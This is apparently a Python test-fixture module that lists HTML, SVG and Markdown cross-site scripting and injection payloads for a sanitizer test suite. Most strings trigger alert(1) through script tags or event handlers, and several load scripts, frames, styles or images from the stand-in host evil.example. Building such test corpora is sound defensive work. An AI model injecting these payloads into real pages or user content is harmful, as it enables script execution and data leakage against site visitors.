"""Sixty payloads of HTML, SVG and Markdown; what runs opens a dialog, what fetches asks evil.example."""

from tests.web.payloads import PAYLOADS

_EVIL = "https://evil.example"

MORE = (
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\x0c>alert(1)</script >",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=https://evil.example/p.png>",
    "<img src='x' onerror='alert(1)'>",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img srcset="https://evil.example/s.png 1x">',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/u.svg#a></use></svg>",
    "<svg><image href=https://evil.example/i.png></image></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>点</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>开</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>走</marquee>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<iframe src=https://evil.example/f></iframe>",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>交</button></form>",
    "<div style=background:url(https://evil.example/b.png)>底</div>",
    "<style>@import 'https://evil.example/i.css';</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    f"![图]({_EVIL}/m.png)",
    f"[![图]({_EVIL}/n.png)]({_EVIL}/)",
    "[点][1]\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "&#60;img src=x onerror=alert(1)&#62;",
)

# A comment that opens swallows what stands before one that closes, as in any browser: it goes last.
SIXTY = tuple(sorted((*PAYLOADS, *MORE), key=lambda it: "<!--" in it))
